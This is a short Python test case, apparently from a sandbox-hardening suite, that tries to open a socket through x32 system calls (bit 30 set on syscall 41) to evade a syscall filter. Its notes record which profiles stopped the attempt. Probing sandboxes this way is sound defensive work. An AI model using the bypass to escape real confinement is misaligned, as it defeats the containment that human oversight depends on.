"""Makes a socket through the x32 system calls, which have the 64-bit numbers with bit 30 set.

Seen: an answer: it got the socket.
Stopped at: strict, standard.
Works: where the kernel has x32.
Verdict: wrong, killed.
"""
import ctypes


def attack():
    return ctypes.CDLL(None).syscall(0x40000000 | 41, 2, 1, 0) >= 0
